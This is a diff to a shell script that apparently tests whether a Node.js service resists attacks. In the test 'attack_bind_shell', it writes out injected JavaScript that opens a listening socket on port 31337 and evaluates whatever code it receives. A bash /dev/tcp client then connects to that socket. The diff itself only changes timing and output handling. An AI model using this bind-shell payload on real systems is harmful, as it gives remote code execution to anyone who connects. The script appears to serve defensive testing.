@@ -322,11 +322,12 @@ attack_bind_shell() {
 	harm bind '*:31337'
 	evaluate "globalThis.door ??= require('net').createServer((s) => s.on('data', (d) => s.end(String(eval(String(d))))))
 		.listen(31337, '0.0.0.0'), 1"
-	sleep 1
+	until_true 10 port_listens 31337
 	# shellcheck disable=SC2016
-	client bash -c 'exec 3<>/dev/tcp/$0/31337 && echo "process.pid + process.version" >&3 && cat <&3' "$own_address" |
-		grep -q 1v
+	client bash -c 'exec 3<>/dev/tcp/$0/31337 && echo "process.pid + process.version" >&3 && cat <&3' "$own_address" \
+		>"$stage/door"
 	evaluate 'globalThis.door.close(), 1'
+	grep -q 1v "$stage/door"
 }
 
 # An uploaded library, mapped as a native module.
@@ -361,7 +362,6 @@ attack_code_shell() {
 # ---- attacks that only do what the service does ----
 
 known_ids() {
-	fetch /views >/dev/null
 	evaluate true | jq -r '.[][0]'
 }
 
